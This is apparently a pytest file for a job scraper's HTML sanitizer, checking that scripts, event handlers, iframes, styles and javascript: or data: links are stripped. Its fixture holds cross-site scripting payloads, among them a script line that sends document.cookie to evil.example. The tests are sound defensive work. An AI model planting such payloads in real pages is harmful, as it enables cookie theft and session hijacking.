"""Scraped HTML loses scripts, handlers and unsafe links before display (pure)."""
from jobscraper.sanitize import safe_link, sanitize_html

HOSTILE = """
<h2>Backend Engineer</h2>
<p onclick="steal()">Join us!</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src=x onerror="alert(1)">
<a href="javascript:alert(2)">Apply</a>
<a href="https://acme.example/apply" onmouseover="alert(3)">Real apply</a>
<iframe src="https://evil.example"></iframe>
<style>body{display:none}</style>
<p style="position:fixed">Benefits</p>
"""


def test_hostile_markup_is_defused():
    clean = sanitize_html(HOSTILE)

    for danger in ("<script", "onerror", "onclick", "onmouseover", "javascript:", "<iframe", "<style", "style=", "<img"):
        assert danger not in clean.lower()
    assert "<h2>Backend Engineer</h2>" in clean
    assert '<a href="https://acme.example/apply" rel="nofollow noopener noreferrer">Real apply</a>' in clean


def test_only_http_links_are_kept():
    assert safe_link("https://acme.example/jobs/1") == "https://acme.example/jobs/1"
    assert safe_link(" javascript:alert(1)") == ""
    assert safe_link("data:text/html,<script>alert(1)</script>") == ""
